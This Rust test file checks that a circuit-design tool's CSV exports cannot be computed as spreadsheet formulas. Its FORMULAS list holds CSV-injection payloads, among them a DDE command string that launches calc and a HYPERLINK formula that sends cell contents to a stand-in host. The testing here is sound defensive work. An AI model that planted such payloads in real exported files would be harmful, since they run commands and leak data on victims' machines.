//! Tables of notes that no one should trust: nothing in a CSV file is a formula to a spreadsheet, whatever it parts cells at.

use loopcase::pipeline::{Job, produce, solve};
use loopcase::source::{Memory, confine};

/// Each of these would be computed, or would reach out, in a careless table.
const FORMULAS: [&str; 16] = [
    "=1+1",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\u{2212}1",
    "=HYPERLINK(\"https://a.example/?\"&A1;\"x\")",
    "=cmd|'/c calc'!A1",
    "  =1",
    "\u{a0}=1",
    "\"=1\"",
    "a;=1",
    "a; \"=1",
    "a;\"\"=1",
    "a\",=1",
    "\u{ff1d}1",
    "',=1",
];

/// A note with the words in every place whose text comes into a table: texts, names, headers of columns.
fn note(words: &str) -> String {
    let y = format!("'{}'", words.replace('\'', "''"));
    format!(
        "---\ntitle: {y}\nrevision: {y}\n---\n\n\
         ```yaml values\na: {{formula: \"1 + 1\", unit: 1, says: {y}}}\n```\n\n\
         ```yaml reference ref\nfrequency: 10 MHz\nphase_noise: {{1 kHz: -120}}\nsource: {y}\nrecord: {{{y}: 3 V}}\n```\n\n\
         ```yaml oscillator vco\ntuning: {{0 V: 90 MHz, 5 V: 110 MHz}}\nphase_noise: {{1 kHz: -80, 1 MHz: -140}}\n```\n\n\
         ```yaml synthesizer core\ndetector: {{max_frequency: 10 MHz}}\npump: {{currents: [1 mA], leakage: 1 nA}}\n\
         feedback_divider: 1 .. 100\n\
         program: {{words: {{{y}: {{width: 8, fields: {{{y}: {{bits: 0 .. 7, formula: N, says: {y}}}}}}}}}}}\n```\n\n\
         ```yaml loop lo\nreference: ref\noscillator: vco\nsynthesizer: core\noutput: 100 MHz\nfilter: passive 2\n\
         parts: {{C1: 1 nF, R2: 1 kohm, C2: 15 nF}}\n```\n\n\
         ```yaml phase_noise noise\nof: lo\nover: 1 kHz .. 1 MHz\nspots: [10 kHz]\ncaption: {y}\n```\n\n\
         ```yaml measurement bench\nfile: trace.csv\nof: noise\n```\n\n\
         ```yaml spurs lines\nof: lo\nalso: [{{offset: 1 MHz, level: -90 dBc, cause: {y}}}]\n```\n\n\
         ```yaml alternatives ways\nof: lo\noptions: {{{y}: {{temperature: 60 degC}}}}\njudge_by: [noise.jitter]\n```\n\n\
         ```yaml program\nof: lo\noutputs: [90 MHz, 100 MHz]\n```\n\n```yaml parts_list\nof: lo\n```\n\n\
         ```yaml decision\ntaken: {y}\nbecause: {y}\nrejected: [{{option: {y}, because: {y}}}]\n```\n\n\
         ```yaml open_items\n{y}: {{text: {y}, owner: {y}, due: {y}}}\n```\n\n\
         ```yaml requirements\n{y}: {{text: {y}, source: {y}, method: test, evidence: {y}}}\n\
         R-2: {{text: {y}, source: {y}, metric: noise.jitter, limit: \"<= 1 ns\"}}\n```\n"
    )
}

/// The cells of a table as a program reads it that parts them there: quotes count where a cell starts with one.
fn cells(text: &str, separator: char) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let (mut inside, mut fresh) = (false, true);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let row = rows.last_mut().expect("a row");
        let cell = row.last_mut().expect("a cell");
        match c {
            '"' if inside && chars.next_if_eq(&'"').is_some() => cell.push('"'),
            '"' if inside => inside = false,
            '"' if fresh => inside = true,
            c if c == separator && !inside => row.push(String::new()),
            '\n' if !inside => rows.push(vec![String::new()]),
            c => cell.push(c),
        }
        fresh = !inside && (c == separator || c == '\n');
    }
    rows
}

/// Whether a spreadsheet would compute it. Of a program that parts cells elsewhere, a cell is several of ours: one that
/// starts with a number of ours stays text.
fn computes(cell: &str) -> bool {
    let bare = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
    let number = |text: &str| text.parse::<f64>().is_ok();
    bare.starts_with(['=', '+', '-', '@', '\u{ff1d}']) && !bare.split(',').next().is_some_and(number)
}

#[test]
fn nothing_in_a_table_is_a_formula() {
    let trace = "\"=1+1 kHz\",+x dBc/Hz\n1,-80\n10,-90\n100,-110\n";
    let (mut tables, mut marked) = (0, 0);
    for words in FORMULAS {
        let text = note(words);
        let files = Memory::new([("lo.md", text.as_str()), ("trace.csv", trace)]);
        let outcome = solve(&Job::plain(&files, "lo.md"));
        let solved = outcome.solved.unwrap_or_else(|| panic!("{words}: {:#?}", outcome.diagnostics));
        let made =
            produce(&solved, &["html", "spice"]).unwrap_or_else(|faults| panic!("{words}: {faults:#?}"));
        for file in &made {
            assert!(
                confine(&file.path).as_deref() == Some(&*file.path)
                    && file.path.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c)),
                "{words}: a file is called {}",
                file.path
            );
            let Some(name) = file.path.strip_prefix("tables/") else { continue };
            let table = String::from_utf8_lossy(&file.bytes);
            tables += 1;
            marked += table.matches('\'').count();
            for separator in [',', ';', '\t'] {
                for row in cells(&table, separator) {
                    for cell in row {
                        assert!(!computes(&cell), "{words}: {name} parted at {separator:?} has {cell:?}");
                    }
                }
            }
        }
    }
    assert!(tables > 10 * FORMULAS.len(), "{tables} tables");
    assert!(marked > tables, "{marked} cells were made harmless: the words do not come into the tables");
}

#[test]
fn a_careless_table_would_be_seen() {
    let seen = |text: &str, separator| cells(text, separator).iter().flatten().any(|cell| computes(cell));
    assert!(seen("a,=1\n", ',') && seen("a,\"=1\"\n", ',') && seen("a,\"x;=1\"\n", ';'));
    assert!(seen("a,\"x;\"\"=1\"\n", ';') && seen("a\n-1+1\n", ','));
    assert!(!seen("a,-1\n-2.5,\"b, -c\"\n", ',') && !seen("a,'=1\n", ','));
}
